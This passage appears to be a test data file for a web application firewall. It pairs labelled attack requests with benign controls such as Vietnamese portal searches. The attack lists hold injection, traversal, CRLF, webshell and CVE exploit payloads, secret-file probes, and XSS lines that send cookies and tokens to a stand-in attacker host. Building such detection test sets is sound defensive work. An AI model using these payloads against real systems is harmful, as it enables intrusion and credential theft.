q:q=') or string-length(//user[1]/password)>0 or ('
q:q=' and substring(//user[position()=1]/password,1,1)='a
q:q=doc('http://evil.example/x')
q:q='] | //user/* | a['
qr:user[$ne]=x&pass[$ne]=x
qr:user=admin&pass[$gt]=
qr:user[$regex]=^adm&pass[$ne]=1
qr:user[%24ne]=1
q:filter={"$where":"sleep(5000)"}
q:filter={"username":{"$ne":null},"password":{"$ne":null}}
q:q=';return true;var a='
q:q=' && this.password.match(/.*/)//
q:filter={"$or":[{"a":1},{"b":{"$gt":""}}]}
qr:user[$exists]=true
q:q={"$where":"this.role=='admin'"}
qr:login[$nin][]=admin
q:user=*)(|(cn=*
q:user=admin)(|(uid=*))
"""),
("crlf-injection", "OWASP CRLF Injection; HTTP response splitting (CWE-113); RFC 9112 field syntax", r"""
qr:lang=en%0d%0aSet-Cookie:%20session=evil
qr:next=/%0d%0aLocation:%20http://evil.example
qr:x=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK
p:/%0d%0aSet-Cookie:crlf=injection
p:/%E5%98%8A%E5%98%8DSet-Cookie:crlf=1
qr:url=%0aX-Injected:1
qr:x=%250d%250aSet-Cookie:a=b
qr:lang=vi%0D%0ARefresh:0;url=http://evil.example
qr:page=1%0d%0a%0d%0a<script>alert(1)</script>
qr:redirect=%0d%0aX-XSS-Protection:0
qr:q=%0d%0aAccess-Control-Allow-Origin:%20*
qr:callback=x%0D%0AContent-Type:text/html
qr:r=%0d%0aLocation:%20javascript:alert(1)
"""),
("open-redirect", "OWASP Unvalidated Redirects and Forwards Cheat Sheet; PortSwigger open redirection", r"""
q:next=http://evil.example
q:redirect=//evil.example
q:url=https://evil.example/login
q:return=/\evil.example
q:returnUrl=///evil.example/%2e%2e
q:continue=https:evil.example
q:redirect_uri=http://portal.example.evil.example/
q:next=http://portal.example@evil.example/
q:goto=javascript:alert(1)//
qr:dest=%2F%2Fevil.example
q:redir=\/\/evil.example
q:r=https://evil.example%23.portal.example
q:url=http:/\/evil.example
q:return_to=//evil.example/%2F..
qr:next=%68%74%74%70%3a%2f%2fevil.example
q:forward=http://203.0.113.9/
q:redirect=http://evil.example%2f%2eportal.example
q:out=http://evil.example/phish
"""),
("protocol-abuse", "RFC 9110/9112 (methods, request line, percent-encoding); IIS %u encoding; CWE-158 (null byte)", r"""
qr:q=%zz
qr:id=1%u0027
p:/index.php%00.jpg
qr:file=x%00.pdf
m:GET /index.html HTTP/9.9
m:GET /index.html HTTP/1.1.1
m:TRACE / HTTP/1.1
m:TRACK / HTTP/1.1
m:DEBUG /default.aspx HTTP/1.1
m:PROPFIND /webdav/ HTTP/1.1
m:GET /index.html JUNK/1.1
m:CONNECT evil.example:443 HTTP/1.1
m:GET http://evil.example/ HTTP/1.1
m:FOOBAR / HTTP/1.1
m:MOVE /uploads/a.txt HTTP/1.1
qr:a=%%32%65
qr:x=%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd
m:get / HTTP/1.1
qr:id=%c0%80
m:PUT /shell.php HTTP/1.1
m:SEARCH / HTTP/1.1
m:MKCOL /x/ HTTP/1.1
qr:id=12%1
qr:name=%G0
p:/%uff1cscript%uff1ealert(1)
"""),
("session-fixation", "OWASP Session Fixation; OWASP Session Management Cheat Sheet", r"""
qr:PHPSESSID=abcdef1234567890&page=login
qr:x=1&jsessionid=1234ABCD5678
qr:ASPSESSIONIDQQGGGNCG=LIBBDGHCIDPOJMKLDPDNGDAF
qr:ASP.NET_SessionId=abc123def456
qr:session_id=0123456789abcdef&next=/
q:x=<script>document.cookie="sessionid=abcd; path=/"</script>
q:x=<meta http-equiv="Set-Cookie" content="SESSIONID=evil">
qr:sessionid=ATTACKER0001
"""),
("scanner-ua", "Tool documentation and default User-Agent strings (sqlmap, Nikto, Nmap NSE, WPScan, Nuclei, ffuf, gobuster, DirBuster, OpenVAS, w3af, Arachni, commix, Hydra)", r"""
ua:sqlmap/1.7.2#stable (https://sqlmap.org)
ua:Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)
ua:Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
ua:masscan/1.3 (https://github.com/robertdavidgraham/masscan)
ua:WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)
ua:Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
ua:Fuzz Faster U Fool v2.1.0
ua:gobuster/3.6
ua:DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
ua:Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)
ua:w3af.org
ua:Arachni/v1.5.1
ua:ZmEu
ua:Morfeus Fucking Scanner
ua:commix/v3.8
ua:Mozilla/4.0 (Hydra)
ua:Wfuzz/3.1.0
ua:Mozilla/5.0 (compatible; Netsparker)
ua:Havij
ua:WhatWeb/0.5.5
ua:feroxbuster/2.10.0
ua:Paros/3.2.13
ua:Mozilla/5.0 (X11; U; Linux i686) Acunetix Web Vulnerability Scanner
ua:Nessus SOAP v0.0.1 (Nessus.org)
ua:jaeles
ua:Mozilla/5.0 zgrab/0.x
ua:fimap.googlecode.com
ua:Mozilla/5.0 (compatible; Dirsearch)
"""),
("secret-backup-probe", "OWASP WSTG-CONF-04 (old, backup and unreferenced files) and WSTG-CONF-05 (admin interfaces); tool and framework documentation for config file names", r"""
p:/.env
p:/.git/config
p:/.git/HEAD
p:/.svn/entries
p:/.svn/wc.db
p:/.hg/hgrc
p:/.DS_Store
p:/.aws/credentials
p:/.ssh/id_rsa
p:/.bash_history
p:/.htpasswd
p:/.htaccess
p:/web.config
p:/wp-config.php.bak
p:/wp-config.php~
p:/config.php.old
p:/.index.php.swp
p:/backup.zip
p:/backup.sql
p:/db.sql
p:/dump.sql.gz
p:/site.tar.gz
p:/www.zip
p:/database.sqlite
p:/phpinfo.php
p:/info.php
p:/server-status
p:/server-info
p:/phpmyadmin/
p:/pma/index.php
p:/adminer.php
p:/administrator/index.php
p:/wp-admin/setup-config.php
p:/manager/html
p:/jmx-console/
p:/actuator/env
p:/actuator/heapdump
p:/.vscode/sftp.json
p:/.idea/workspace.xml
p:/config/database.yml
p:/.npmrc
p:/.docker/config.json
p:/docker-compose.yml
p:/.gitlab-ci.yml
p:/appsettings.json
p:/credentials.json
p:/sftp-config.json
p:/.circleci/config.yml
p:/elmah.axd
p:/trace.axd
p:/console/login/LoginForm.jsp
p:/_profiler/phpinfo
p:/telescope/requests
p:/.env.production
p:/api/.env
p:/.git/logs/HEAD
p:/storage/logs/laravel.log
p:/wp-content/debug.log
p:/.terraform/terraform.tfstate
p:/id_rsa
p:/config.inc.php.save
p:/web.config.bak
p:/.kube/config
"""),
("webshell", "Web shell write-ups (c99, r57, WSO, b374k, China Chopper, ProxyShell drop paths); OWASP Unrestricted File Upload", r"""
p:/uploads/shell.php?cmd=id
p:/c99.php
p:/r57.php
p:/wso.php
p:/b374k.php
p:/images/cmd.asp?cmd=dir
p:/cmd.jsp?cmd=whoami
p:/uploads/x.php?c=system('id');
p:/alfa.php
p:/shell.aspx
p:/aspnet_client/system_web/x.aspx
p:/indoxploit.php
p:/wp-content/plugins/hello.php?cmd=ls
p:/uploads/avatar.php.jpg
p:/1.asp;.jpg
p:/uploads/x.phtml
p:/upload/x.php5
p:/uploads/2026/12/up.php?pass=123&act=upload
p:/images/s.jsp?pwd=023&i=whoami
p:/wso2.php?a=FilesMan
"""),
("cve-exploit", "Vendor advisories and CVE write-ups: ProxyShell, Spring4Shell, Struts (S2-045/S2-057), Confluence OGNL (CVE-2021-26084, CVE-2022-26134), ThinkPHP, Drupalgeddon2, PHPUnit, PHP-CGI (CVE-2012-1823, CVE-2024-4577), Laravel Ignition, vCenter, Tomcat PUT", r"""
p:/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example
p:/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com
qr:class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di
p:/?class.module.classLoader.URLs%5B0%5D=0
p:/struts2-showcase/%24%7B233*233%7D/actionChain1.action
p:/index.action?redirect:${#a=new java.lang.ProcessBuilder({'id'}).start()}
q:x=%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
p:/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/
qr:queryString=aaa%5Cu0027%2b%23%7B%5Cu0022%5Cu0022%5B%5Cu0022class%5Cu0022%5D.forName(%5Cu0022javax.script.ScriptEngineManager%5Cu0022)%7D%2b%5Cu0027
p:/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id
qr:mail[%23post_render][]=exec&mail[%23type]=markup&mail[%23markup]=id
p:/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
p:/_ignition/execute-solution
p:/ui/vropspluginui/rest/services/uploadova
p:/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
p:/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
m:PUT /shell.jsp/ HTTP/1.1
p:/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)
p:/GponForm/diag_Form?images/
p:/solr/admin/cores?action=CREATE&name=x&instanceDir=../../../../etc
p:/actuator/gateway/routes
p:/mifs/.;/services/LogService
p:/cgi-bin/admin.cgi?Command=sysCommand&Cmd=id
p:/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1
"""),
]

BENIGN = [
("search-sql-words", "ordinary searches and form values that contain SQL keywords, quotes and operators (portal search logs, forum posts)", r"""
q:q="select all" products
q:q=union of workers in Hanoi
q:q=drop shipping business plan
q:q=Order by date please
q:q=rock 'n' roll
q:q=1=1 meaning in math
q:q=cat and dog
q:q=or else what
q:q=where is the office
q:q=insert coin
q:q=update my address
q:q=delete account
q:q=select a province from the list
q:q=table of contents
q:q=the union select committee
q:q=sleep apnea clinic
q:q=benchmark results 2026
q:q=Romeo and Juliet
q:q=either/or
q:q="hello world"
q:q='quoted'
q:q=it's 5 o'clock
q:q=don't stop
q:q=group by age
q:q=having fun in Da Nang
q:q=exec summary template
q:q=system administrator job
q:q=password reset
q:q=alert system for flooding
q:q=execute order 66
q:q=evaluation of staff
q:q=javascript tutorial
q:q=java script course
q:q=how to declare a variable
q:q=case when it rains
q:q=null and void
q:q=true or false quiz
q:q=1 or 2 bedrooms
q:q=yes or no
q:q=waitfor the bus
q:q=version 2.0 or later
q:q=from A to Z
q:q=count down 10 9 8
q:q=if now then later
q:q=char siu recipe
q:q=convert pdf to word
q:q=concat strings python
q:q=substring of a word
q:q=like and share
q:q=and/or conditions
q:q=ORDER 2026-0001
q:q=user admin guide
q:q=--help
q:q=A+ grade
q:q=C# tutorial
q:q=C++ reference
q:q=50% off
q:q=100% cotton
q:q=R&D department
q:q=Tom & Jerry
q:q=#hashtag
q:q=where=home
q:q=x = y + 1
q:q=a<b
q:q=I <3 Hue
q:q=1 < 2 and 3 > 2
q:q=<3
q:q=email me at a.b@example.com
q:q=O'Reilly books
q:q=don't drop the ball
q:q=the "best" phở
q:q=#1 priority
q:q=price > 100
q:q=sum of (2+3)*4
"""),
("vietnamese", "Vietnamese public-service portal searches and form values (UTF-8, URL-encoded as browsers send them)", r"""
q:q=thủ tục cấp giấy phép xây dựng
q:q=đăng ký kết hôn
q:q=cấp lại căn cước công dân
q:q=hộ khẩu thường trú
q:q=giấy khai sinh bản sao
q:q=lệ phí trước bạ ô tô
q:q=tra cứu hồ sơ đất đai
q:q=Sở Tư pháp tỉnh Quảng Ninh
q:q=UBND xã Tân Phú
q:q=đổi giấy phép lái xe
q:ten=Nguyễn Văn Ánh
q:ten=Trần Thị Hồng Nhung
q:dia_chi=Số 12, ngõ 34, phố Hàng Bông, Hoàn Kiếm, Hà Nội
q:ly_do=Xin cấp lại do bị mất (ví)
q:noi_dung=Tôi muốn hỏi: thủ tục "chuyển nhượng" mất bao lâu?
q:q=bảo hiểm xã hội một lần
q:q=thuế thu nhập cá nhân 2026
q:q=đất nông nghiệp & đất ở
q:q=phường 1; quận 3
q:q=giấy phép kinh doanh - hộ cá thể
q:ghi_chu=Gọi trước 30' khi đến
q:q=chứng thực chữ ký
q:q=cư trú tạm trú
q:q=trợ cấp thất nghiệp
q:q=học bổng sinh viên
q:q=quy hoạch sử dụng đất 2021-2030
q:q=Điện Biên Phủ
q:q=tỉnh Bà Rịa – Vũng Tàu
q:q=mã số thuế 0101234567
q:q=số CCCD 001099012345
"""),
("structured-values", "JSON, GraphQL, base64/JWT tokens, arrays and filters that APIs put in query strings", r"""
q:filter={"status":"approved","page":2}
q:data={"ids":[1,2,3]}
q:token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c
q:state=YWJjZGVmZ2hpamtsbW5vcA==
q:code=4/0AeanS0abcDEFghiJKLmnoPQRstuVWXyz
q:query={ user(id: 1) { name email } }
q:q=status:active AND type:(a OR b)
qr:ids[]=1&ids[]=2&ids[]=3
qr:filter[status]=1&filter[province]=HN
qr:sort=-created_at&fields[]=name&fields[]=email
q:where={"createdAt":{"gte":"2026-01-01"}}
q:opts={"limit":10,"offset":20,"order":["name","ASC"]}
q:cursor=eyJpZCI6MTIzNH0=
q:sig=3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b
q:hash=d41d8cd98f00b204e9800998ecf8427e
q:session_state=abc.def-123
q:nonce=n-0S6_WzA2Mj
q:SAMLRequest=fZJNT8MwDIbv/IrK9zZpx9ejdhJiQkwCUbHCgVuaultQm5Q4HfDvacfGuMDB
q:RelayState=/dvc/trang-chu
q:callback=jQuery3510_1733560000000
q:_=1733560000000
q:v=20261207.1
q:hl=vi&gl=VN
q:fields=id,name,address
q:expand=owner.profile
q:include=author,comments
q:select=id,title,created
q:$filter=Name eq 'Ha Noi' and Status ne 'closed'
q:$orderby=CreatedDate desc
q:$top=50
q:$select=Id,Title
q:format=json
q:lat=21.0285&lng=105.8542
q:bbox=105.7,20.9,105.9,21.1
q:color=#ff8800
q:range=bytes=0-1023
q:tz=Asia/Ho_Chi_Minh
q:date=07/12/2026
q:from=2026-01-01T00:00:00Z
q:price=$100
q:amount=1,000,000 VND
"""),
("tracking-and-auth", "marketing tracking parameters, OAuth/SSO redirects to the portal itself, e-mail and phone values", r"""
qr:utm_source=facebook&utm_medium=cpc&utm_campaign=dvc_2026&utm_content=banner-1
qr:fbclid=IwAR2abcDEF123_ghiJKL456
qr:gclid=Cj0KCQiA6Or_BRC_ARIsAPzuer_abc
qr:zarsrc=30&utm_source=zalo&utm_medium=zalo&utm_campaign=zalo
qr:_ga=2.123456789.987654321.1733560000-1234567890.1733560000
qr:mc_cid=abc123&mc_eid=def456
q:email=nguyen.van.a@gmail.com
q:email=o'brien@example.com
q:email=first.last+portal@example.com.vn
q:phone=+84 912 345 678
q:phone=(024) 3825 1234
q:name=O'Brien
q:name=D'Angelo
q:name=Jean-Luc Picard
q:name=Mary-Kate O'Neil
q:returnUrl=/dvc/ho-so/cua-toi
q:ReturnUrl=/Account/Manage
q:next=/dashboard
q:redirect=/vi/trang-chu
p:/oauth/authorize?response_type=code&client_id=dvc&redirect_uri=https%3A%2F%2Fdichvucong.example.gov.vn%2Fcallback&scope=openid%20profile&state=xyz
p:/sso/login?service=https%3A%2F%2Fmotcua.example.gov.vn%2F
q:lang=vi
q:locale=en_US
q:ref=homepage
q:source=newsletter
q:affiliate=abc-123
"""),
("odd-but-legit-text", "forum posts, comments and feedback forms with code, math, punctuation and markup-like text", r"""
post:body=for (i = 0; i < n; i++) { sum += a[i]; }
post:body=printf("%d items", count);
post:comment=Great service!!! Thanks :)
post:comment=5/5 would recommend ;-)
post:comment=The form at step #3 fails - please fix!
post:comment=Use ctrl+c / ctrl+v to copy
post:body=if (a > b) return a; else return b;
post:body=x^2 + y^2 = z^2
post:body=E = mc^2
post:body=2 * (3 + 4) = 14
post:body=My path is C drive then Documents
post:body=See https://www.example.gov.vn/van-ban/123 for details
post:body=The answer is 42; the question is unknown.
post:body=Cost: $5 (approx.) | Time: 2h
post:body=Use the <b>bold</b> tag for emphasis
post:body=Email: support@example.gov.vn; Tel: 1900 1234
post:feedback=Nhân viên rất nhiệt tình :) 10/10
post:feedback=Website chậm quá... mong cải thiện!
post:body=git commit -m "fix typo"
post:body=npm install --save lodash
post:body=def f(x): return x * 2
post:body=SELECT is a keyword in SQL
post:body=I love the new design <3
post:body=~/Documents/report.docx
post:body=array[0] = 1
post:body=user@host:~$ ls
post:body=He said "OK" & left
post:body=#include <stdio.h>
post:body=The regex ^[a-z]+$ matches words
post:body={name} is a placeholder
post:body=x != y
post:body=a || b
post:body=a && b
post:body=price: 10-20% off
post:body=(see section 4.2)
post:body=Q&A session at 9:00
post:body=Mr. Smith's office
post:body=ok; thanks
post:body=1/2 + 1/3 = 5/6
"""),
("ordinary-paths", "ordinary portal, CMS and static asset requests, well-known URIs (RFC 8615), methods of REST APIs", r"""
p:/
p:/favicon.ico
p:/robots.txt
p:/sitemap.xml
p:/.well-known/security.txt
p:/.well-known/acme-challenge/Xyz_AbC-123
p:/.well-known/openid-configuration
p:/static/js/app.min.js?v=3.2.1
p:/static/css/main.7f3a9c.css
p:/images/logo.png
p:/assets/fonts/Roboto-Regular.woff2
p:/wp-content/themes/twentytwentyfour/style.css?ver=1.2
p:/wp-includes/js/jquery/jquery.min.js?ver=3.7.1
p:/wp-json/wp/v2/posts?per_page=10
p:/dvc/thu-tuc-hanh-chinh/chi-tiet/1.001234
p:/tin-tuc/2026/12/07/thong-bao-nghi-le.html
p:/van-ban/quyet-dinh-so-123/qd-ubnd.pdf
p:/download/bieu-mau-01.docx
p:/api/v1/hoso/2026-001234/trang-thai
p:/portal/page/portal/home
p:/Default.aspx?tabid=123&mid=456
p:/index.php?option=com_content&view=article&id=12&Itemid=101
p:/index.php/component/content/article/12
p:/thong-ke/truy-cap?config=portal
p:/news/detail.aspx?ID=2026
p:/app/report.jsp?reportId=77&format=pdf
p:/page.do?method=view&id=5
p:/search?q=ha+noi
p:/api/v2/users/me
p:/login
p:/logout
p:/register
p:/account/forgot-password
p:/admin-guide.html
p:/huong-dan/su-dung-chu-ky-so.pdf
p:/files/bao-cao_Q3-2026%20(final).xlsx
p:/images/anh%20dai%20dien.jpg
p:/tra-cuu/ket-qua?ma_ho_so=000.00.01.H01-261207-0001
p:/api/v1/provinces/01/districts
p:/feed/rss.xml
p:/manifest.json
p:/sw.js
p:/apple-touch-icon.png
p:/ads.txt
p:/humans.txt
p:/static/img/banner@2x.png
p:/static/js/vendor~main.chunk.js
p:/en/about-us
p:/vi/gioi-thieu
p:/user/profile/edit
p:/index.php?route=product/category&path=20_27
p:/catalog/view/theme/default/stylesheet/stylesheet.css
m:POST /api/login HTTP/1.1
m:PUT /api/v1/hoso/123 HTTP/1.1
m:DELETE /api/v1/draft/9 HTTP/1.1
m:PATCH /api/v1/users/me HTTP/1.1
m:OPTIONS /api/v1/hoso HTTP/1.1
m:HEAD / HTTP/1.1
m:GET /index.html HTTP/2.0
m:GET /api/v1/hoso HTTP/2.0
m:GET / HTTP/1.0
m:GET /index.html HTTP/3.0
m:POST /graphql HTTP/2.0
"""),
("user-agents-referers", "ordinary browsers, crawlers, monitoring agents, and referers from search engines and social networks", r"""
ua:Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
ua:Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
ua:Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)
ua:facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)
ua:Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/121.0.0 Chrome/115.0.0.0 Safari/537.36
ua:Mozilla/5.0 (Linux; Android 13; Redmi Note 12) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 Zalo/24.10
ua:kube-probe/1.29
ua:Prometheus/2.48.0
ua:Uptime-Kuma/1.23.11
ua:Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)
ua:Wget/1.21.4
ua:curl/8.5.0
ua:okhttp/4.12.0
ua:Dalvik/2.1.0 (Linux; U; Android 11; SM-A125F Build/RP1A.200720.012)
ua:Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1
ua:Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)
ua:Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0
ua:Apache-HttpClient/4.5.14 (Java/17.0.9)
ua:Java/1.8.0_392
ua:axios/1.6.2
ua:Go-http-client/2.0
ua:python-requests/2.31.0
ua:PostmanRuntime/7.36.0
ua:Microsoft Office Word 2014
ua:Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)
ua:Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)
ua:Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
ua:Mozilla/5.0 (Linux; Android 14; SM-S918B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/444.0.0.0;]
ua:Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0
ua:-
ref:https://www.google.com/search?q=dich+vu+cong+truc+tuyen&oq=dich+vu+cong&sourceid=chrome&ie=UTF-8
ref:https://www.google.com.vn/url?sa=t&rct=j&q=&esrc=s&source=web&cd=1&url=https%3A%2F%2Fdichvucong.example.gov.vn%2F
ref:https://www.facebook.com/
ref:https://l.facebook.com/l.php?u=https%3A%2F%2Fportal.example.gov.vn%2Ftin-tuc&h=AT0abc
ref:https://zalo.me/g/abcdef123
ref:https://coccoc.com/search?query=th%E1%BB%A7+t%E1%BB%A5c+h%C3%A0nh+ch%C3%ADnh
ref:https://www.bing.com/search?q=%22c%C3%B4ng+an+t%E1%BB%89nh%22+tuy%E1%BB%83n+d%E1%BB%A5ng
ref:https://portal.example.gov.vn/dvc/thu-tuc-hanh-chinh?page=2
ref:android-app://com.google.android.gm/
ref:https://t.co/AbCdEf123
ref:https://mail.google.com/
ref:https://duckduckgo.com/?q=select+provinces+vietnam&ia=web
"""),
("encoded-but-benign", "percent-encoded and double-encoded values that browsers and proxies send, file names with spaces and parentheses, long tokens", r"""
qr:q=%E1%BB%A7y%20ban
qr:file=report%20(1).pdf
qr:path=%2Fdvc%2Fho-so%2F2026
qr:returnUrl=%252Fdvc%252Ftrang-chu
qr:name=Nguy%E1%BB%85n%20V%C4%83n%20A
qr:q=C%2B%2B
qr:q=50%25
qr:q=a%2Bb%3Dc
qr:q=%22exact%20phrase%22
qr:title=T%C3%ACm%20ki%E1%BA%BFm%3A%20%E2%80%9Cvi%E1%BB%87c%20l%C3%A0m%E2%80%9D
qr:emoji=%F0%9F%98%80
qr:q=caf%C3%A9
qr:q=na%C3%AFve
qr:sig=a%2Fb%2Bc%3D%3D
qr:data=eyJ0eXBlIjoiY2xpY2siLCJ4IjoxMjMsInkiOjQ1Nn0%3D
qr:q=%28cau%20hoi%29
qr:file=C%3A%5Cfakepath%5Cscan.pdf
qr:q=%5Bin%20progress%5D
qr:tags=a%2Cb%2Cc
qr:q=%3Cnone%3E
"""),
]

# Second batch, written after the first round of rule changes and measured before any further
# change (its first figure estimates how the pack generalises to requests it was not tuned on).
ATTACKS += [
("sqli", "batch 2: MySQL/MSSQL/PostgreSQL/Oracle reference manuals (comments, string functions, stacked queries); OWASP WSTG-INPV-05", r"""
q:id=1'/**/UNION/**/ALL/**/SELECT/**/NULL,NULL,CONCAT(user,0x3a,password)/**/FROM/**/mysql.user--+
q:id=1 UN/**/ION SEL/**/ECT 1,2
q:id=1'%0bor%0b'1'='1
q:q=a' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT database()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x
q:id=1);DECLARE @x NVARCHAR(4000);SET @x=CAST(0x77616974666f722064656c61792027303a303a3527 AS NVARCHAR(4000));EXEC(@x)--
q:id=1' AND ORD(MID((SELECT IFNULL(CAST(schema_name AS CHAR),0x20) FROM information_schema.schemata LIMIT 1,1),1,1))>51--
q:id=1 AND (SELECT 5963 FROM(SELECT COUNT(*),CONCAT(0x7176,(SELECT (ELT(5963=5963,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)
q:id=1' AND 1=(SELECT 1 FROM PG_SLEEP(5))--
q:id=1' UNION SELECT CHR(65)||CHR(66) FROM DUAL--
q:id=1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))
q:name=x' OR username LIKE '%admin%
q:name=admin'or'1'='1
q:id=1'-- 
q:id=1 or 1--
q:ord=name,(SELECT 1 FROM dual WHERE 1=1)
q:id=(select(0)from(select(sleep(7)))v)/*'+(select(0)from(select(sleep(7)))v)+'"+(select(0)from(select(sleep(7)))v)+"*/
q:id=1'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--
q:id=1 AND 'a'<>'b'
q:id=-1' UNION SELECT 1,LOAD_FILE(0x2f6574632f706173737764),3-- -
q:id=1;UPDATE users SET role='admin' WHERE name='x'--
q:id=1' AND SUBSTRING(@@version,1,1)=5-- -
ua:Mozilla/5.0' UNION SELECT password FROM users WHERE '1'='1
ref:https://portal.example/tin-tuc?id=1 AND SLEEP(5)
qn:id) UNION SELECT 1,2--
q:search=1' and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --
"""),
("xss", "batch 2: OWASP XSS Filter Evasion Cheat Sheet; HTML Living Standard event handlers; PortSwigger XSS cheat sheet", r"""
q:q=<svg/onload=alert(1)//
q:q=<img src=x onerror=alert`1`>
q:q=<iframe/src=javascript:alert(1)>
q:q=<a href="jav&#x61;script:alert(1)">x</a>
q:q=<a href="javas&#99;ript:alert(1)">x</a>
q:q=<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
q:q=<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">
q:q=<div style="width:expression(alert(1))">
q:q=<div style="-moz-binding:url(//evil.example/x.xml#x)">
q:q=+ADw-script+AD4-alert(1)+ADw-/script+AD4-
q:q=<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
q:q=<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
q:q=<object type="text/x-scriptlet" data="http://evil.example/x.sct">
q:q=<input type=image src=x onerror=alert(1)>
q:q=<body/onhashchange=alert(1)>
q:q=<keygen autofocus onfocus=alert(1)>
q:q=<audio src=x onerror=alert(1)>
q:q=<select onfocus=alert(1) autofocus>
q:q=<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x">
q:q=\x3cscript\x3ealert(1)\x3c/script\x3e
q:q=[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]
q:q=<img src=x onerror=eval('\u0061\u006c\u0065\u0072\u0074(1)')>
q:q=javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
q:q=<script>new Image().src='//evil.example/?'+document.cookie</script>
q:q=<a href=# onclick="location='//evil.example/'+localStorage.token">x</a>
ua:Mozilla/5.0 <img src=x onerror=alert(1)>
ref:https://evil.example/?q=<svg onload=alert(document.domain)>
pe:/tim-kiem/<svg onload=alert(1)>
qn:<img src=x onerror=alert(1)>
q:q=<svg><animatetransform onbegin=alert(1) attributeName=transform>
"""),
("path-traversal", "batch 2: OWASP WSTG-ATHZ-01; CWE-22/23/36; IIS and Tomcat path normalisation write-ups", r"""
qr:file=..%252f..%252f..%252f..%252fwindows%252fwin.ini
qr:file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd
qr:file=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd
qr:file=..%u2216..%u2216windows%u2216win.ini
q:file=..//..//..//..//etc//passwd
q:file=..\/..\/..\/etc\/passwd
q:file=/var/www/../../etc/passwd
q:file=....\\....\\....\\windows\\win.ini
q:name=..%2F..%2F..%2F..%2Froot%2F.bash_history
p:/..;/..;/..;/etc/passwd
p:/static/.%252e/.%252e/.%252e/etc/passwd
p:/files/..%5c..%5c..%5c..%5cwindows%5cwin.ini
p:/assets/..%c0%af..%c0%af..%c0%afetc/passwd
p:/images/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow
p:/download.php?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
q:img=....//....//....//....//etc/passwd
q:lang=../../../../../../../../etc/passwd%00en
ua:..\..\..\..\windows\win.ini
ref:https://portal.example/view?doc=..%2f..%2f..%2fetc%2fpasswd
